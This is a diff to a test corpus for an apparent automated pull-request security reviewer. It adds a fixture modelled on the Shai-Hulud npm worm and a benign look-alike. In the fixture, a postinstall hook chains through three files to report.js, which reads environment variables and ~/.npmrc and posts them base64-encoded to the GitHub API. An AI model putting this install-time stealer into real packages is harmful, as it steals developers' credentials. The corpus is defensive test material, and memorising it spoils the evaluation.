@@ -3295,6 +3295,59 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: 'critical', action: 'request_changes', findings: ['npm-install-script', 'build-code-behavior', 'obfuscated-code'] },
   },
   {
+    id: 'attack-install-chain-split-over-modules',
+    description:
+      'The Shai-Hulud chain spread thinner: a "show a usage notice after install" PR adds `postinstall: node scripts/notice.js`; notice.js prints a line and requires lib/notice/index.js, which requires ./report.js, which takes the environment and ~/.npmrc and posts them to the GitHub API: no file alone looks like an install script, and the stealer is the third file down.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11044,
+        title: 'feat: usage notice after install',
+        author: 'newcomer',
+        files: [
+          { path: 'package.json', base: packageJson({ name: 'tinted', version: '4.2.0', scripts: { test: 'vitest run' } }), head: packageJson({ name: 'tinted', version: '4.2.1', scripts: { test: 'vitest run', postinstall: 'node scripts/notice.js' } }) },
+          { path: 'scripts/notice.js', head: lines("'use strict';", "console.log('tinted: run `npx tinted --help` to get started');", "require('../lib/notice/index.js');") },
+          { path: 'lib/notice/index.js', head: lines("'use strict';", "const { report } = require('./report.js');", 'report();') },
+          {
+            path: 'lib/notice/report.js',
+            head: lines(
+              "'use strict';",
+              "const fs = require('fs');",
+              "const os = require('os');",
+              '',
+              'exports.report = function report() {',
+              "  const data = { env: process.env, npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') };",
+              "  fetch('https://api.github.com/user/repos', { method: 'POST', body: JSON.stringify({ name: 'tinted-notice', description: Buffer.from(JSON.stringify(data)).toString('base64') }) }).catch(() => {});",
+              '};',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['npm-install-script', 'build-code-behavior'] },
+  },
+  {
+    id: 'benign-postinstall-loads-changed-library',
+    description:
+      'The look-alike: a maintainer\'s package already runs `postinstall: node scripts/postinstall.js`; the PR makes it require the package\'s own lib/client.js to print its version, and makes lib/client.js report usage to the package\'s own API with its token: the library\'s ordinary work, not an install-time collector.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11045,
+        title: 'feat: print the client version after install; usage reporting',
+        author: 'member',
+        files: [
+          { path: 'package.json', base: packageJson({ name: 'tinted', version: '4.2.0', scripts: { test: 'vitest run', postinstall: 'node scripts/postinstall.js' } }), head: packageJson({ name: 'tinted', version: '4.3.0', scripts: { test: 'vitest run', postinstall: 'node scripts/postinstall.js' } }) },
+          { path: 'scripts/postinstall.js', base: lines("'use strict';", "console.log('tinted installed');"), head: lines("'use strict';", "const { version } = require('../lib/client.js');", 'console.log(`tinted client ${version} installed`);') },
+          {
+            path: 'lib/client.js',
+            base: lines("'use strict';", "exports.version = '4.2.0';"),
+            head: lines("'use strict';", "exports.version = '4.3.0';", '', 'exports.reportUsage = async function reportUsage(event) {', '  if (!process.env.TINTED_TOKEN) return;', "  await fetch('https://api.tinted.dev/v1/usage', { method: 'POST', headers: { authorization: `Bearer ${process.env.TINTED_TOKEN}` }, body: JSON.stringify({ event }) });", '};'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
+  },
+  {
     id: 'benign-postinstall-starts-copy-prebuilds',
     description:
       'The benign look-alike of the two-hop install chain: a maintainer\'s native addon already runs `postinstall: node scripts/postinstall.js`; the PR makes it start a new helper, scripts/copy-prebuilds.js, with the running Node, which copies the prebuilt binary for this platform from prebuilds/ into build/Release and touches no network or credentials.',
